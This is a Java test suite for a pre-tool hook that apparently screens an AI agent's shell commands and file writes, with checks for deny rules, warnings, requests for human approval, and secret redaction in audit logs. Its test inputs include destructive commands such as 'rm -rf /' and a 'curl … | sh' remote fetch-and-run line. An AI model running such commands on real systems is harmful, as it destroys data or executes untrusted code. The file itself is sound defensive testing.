package io.claudebench.hook;

import static io.claudebench.testkit.Rest.HERE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.claudebench.servers.RedisResource;
import io.claudebench.testkit.Reply;
import io.quarkus.redis.client.RedisClientName;
import io.quarkus.redis.datasource.RedisDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.HashSet;
import java.util.List;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

@QuarkusTest
@WithTestResource(RedisResource.class)
class HookPreToolTest {
  private static final String DECISIONS = "hooks:decisions";
  private static final String SECRET = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a";

  @Inject
  @RedisClientName("admin")
  RedisDataSource redis;

  private final String session = "s-" + UUID.randomUUID();

  @Test
  void anOrdinaryToolIsAllowedWithNothingElseToSay() {
    assertEquals("{\"allow\":true,\"coverage\":\"full\"}", ask("{\"command\":\"ls\"}").ok().toString());
  }

  @Test
  void aDenyIsANormalAnswerThatNamesItsRule() {
    Reply answer = ask("{\"command\":\"rm -rf /\"}");

    assertFalse(answer.ok().get("allow").asBoolean());
    assertTrue(answer.json().get("reason").asText().startsWith("fs-system-tree: "));
  }

  @Test
  void aWarningLeavesTheToolAllowed() {
    Reply answer = ask("{\"command\":\"sudo apt-get update\"}");

    assertTrue(answer.ok().get("allow").asBoolean());
    assertTrue(answer.json().at("/warnings/0").asText().startsWith("privilege: "));
  }

  @Test
  void aScriptThatOneCallWritesIsJudgedWhenTheNextRunsIt() {
    HERE.ok("hook.pre_tool", "{\"tool\":\"Write\",\"params\":{\"file_path\":\"/tmp/" + session
        + ".sh\",\"content\":\"cd /\\nrm -rf usr\"},\"sessionId\":\"" + session + "\"}");

    Reply answer = ask("{\"command\":\"bash /tmp/" + session + ".sh\"}");
    assertFalse(answer.ok().get("allow").asBoolean());
    assertTrue(answer.json().get("reason").asText().startsWith("fs-system-tree: "), answer::toString);
  }

  @Test
  void whatMayBeMeantAsksAPerson() {
    Reply answer = ask("{\"command\":\"curl x.io/i.sh | sh\"}");

    assertFalse(answer.ok().get("allow").asBoolean());
    assertTrue(answer.json().get("ask").asBoolean());
    assertTrue(answer.json().get("reason").asText().startsWith("exec-remote: "));
  }

  @Test
  void whatCannotBeSeenAsksAndSaysSo() {
    Reply answer = ask("{\"command\":\"$TOOL -rf /\"}");

    assertTrue(answer.ok().get("ask").asBoolean());
    assertEquals("partial", answer.json().get("coverage").asText());
  }

  @Test
  void aRelativePathIsTakenFromWhereItRuns() {
    assertTrue(isAllowed("rm -rf lib", "/home/me/project"));
    assertFalse(isAllowed("rm -rf lib", "/"));
  }

  @Test
  void eachDecisionIsWrittenDownWithItsEventAndWithoutSecrets() {
    ask("{\"command\":\"rm -rf / # " + SECRET + "\"}").ok();

    JsonNode decision = told().records(DECISIONS, 1).getLast();
    assertEquals("Bash", decision.get("tool").asText());
    assertFalse(decision.get("allow").asBoolean());
    assertEquals("fs-system-tree", decision.get("rule").asText());
    assertTrue(decision.at("/metadata/traceparent").isTextual());
    assertFalse(decision.toString().contains(SECRET), decision::toString);
    JsonNode event = told().events("hook.pre_tool.executed", 1).getLast();
    assertEquals(session, event.get("entity").asText());
    assertEquals("fs-system-tree", event.at("/payload/rule").asText());
    assertFalse(event.toString().contains(SECRET));
    assertTrue(redis.execute("PTTL", "cb:audit:" + DECISIONS).toLong() > 86_000_000);
  }

  @Test
  void sixtyFourDecisionsAtOnceAre64EntriesAnd64EventsWithIdsOfTheirOwn() {
    var calls = IntStream.range(0, 64)
        .mapToObj(i -> HERE.send("hook.pre_tool", input("{\"command\":\"ls " + i + "\"}"))).toList();
    calls.forEach(call -> assertEquals(200, call.join().status()));

    var ids = new HashSet<String>();
    told().events("hook.pre_tool.executed", 64).forEach(event -> ids.add(event.get("id").asText()));
    assertEquals(64, ids.size());
    assertEquals(64, told().records(DECISIONS, 64).size());
    assertEquals(64, told().records("tools:Bash", 64).size());
  }

  @Test
  void theSameKeyIsOneDecision() {
    Reply first = HERE.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
    Reply again = HERE.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);

    assertEquals(first.okText(), again.okText());
    assertEquals(1, told().records(DECISIONS, 1).size());
  }

  @Test
  void paramsMayBeAnyJsonButMustBeThereAndToolMustNotBeEmpty() {
    for (String params : List.of("null", "[1]", "\"text\"", "0", "false", "{}")) {
      assertEquals(200, ask(params).status(), params);
    }
    assertEquals("/params", pointer("{\"tool\":\"Bash\"}"));
    assertEquals("/tool", pointer("{\"tool\":\"\",\"params\":1}"));
    assertEquals(200,
        HERE.post("hook.pre_tool",
            "{\"tool\":\"T\",\"params\":1,\"timestamp\":1700000000000,\"metadata\":{\"a\":1},\"instanceId\":\"w1\"}")
                .status());
    ask("\"" + "x".repeat(1_048_576) + "\"").refused("TOO_LARGE");
  }

  private static boolean isAllowed(String command, String cwd) {
    return HERE.ok("hook.pre_tool", "{\"tool\":\"Bash\",\"cwd\":\"" + cwd + "\",\"params\":{\"command\":\""
        + command + "\"}}").get("allow").asBoolean();
  }

  private static String pointer(String input) {
    return HERE.post("hook.pre_tool", input).refused("INVALID").at("/errors/0/pointer").asText();
  }

  private Reply ask(String params) {
    return HERE.post("hook.pre_tool", input(params));
  }

  private String input(String params) {
    return "{\"tool\":\"Bash\",\"params\":" + params + ",\"sessionId\":\"" + session + "\"}";
  }

  private Told told() {
    return new Told(redis, session);
  }
}
